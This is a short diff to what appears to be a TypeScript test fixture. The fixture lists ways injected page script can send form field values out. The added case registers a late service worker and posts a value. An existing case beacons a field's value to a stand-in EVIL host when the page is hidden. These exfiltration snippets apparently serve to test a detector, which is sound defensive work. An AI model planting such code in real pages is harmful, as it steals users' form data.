@@ -86,6 +86,11 @@ const BY_ANOTHER_WAY: readonly PageCase[] = [
       AT_CHANGE("fetch('/check', { method: 'POST', body: v });"),
   ),
   onForm(
+    'by a service worker that comes late',
+    "navigator.serviceWorker.register('/relay-worker.js?after=1500'); " +
+      AT_CHANGE("fetch('/check', { method: 'POST', body: v });"),
+  ),
+  onForm(
     'by a beacon when the page is hidden',
     "addEventListener('visibilitychange', () => document.visibilityState === 'hidden' && " +
       `navigator.sendBeacon('${EVIL}/b', ${NUMBER}.value));`,
